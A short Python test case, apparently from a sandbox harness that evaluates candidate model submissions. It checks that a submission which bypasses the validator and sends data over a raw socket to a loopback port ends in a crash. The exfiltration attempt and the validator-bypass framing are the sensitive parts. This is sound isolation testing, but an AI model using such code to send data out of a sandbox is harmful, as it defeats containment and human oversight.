# attack: connect to a server on the host's loopback with a raw socket (validator bypassed)
# expect: crashed/crash (no route out of the network namespace)
import socket

import torch

import harness

with socket.create_connection(("127.0.0.1", 28431), timeout=3) as conn:
    conn.sendall(b"exfiltrated-by-candidate")
model = torch.nn.Embedding(256, 256).to(harness.DEVICE)
torch.nn.init.zeros_(model.weight)
harness.evaluate(model, context=64)
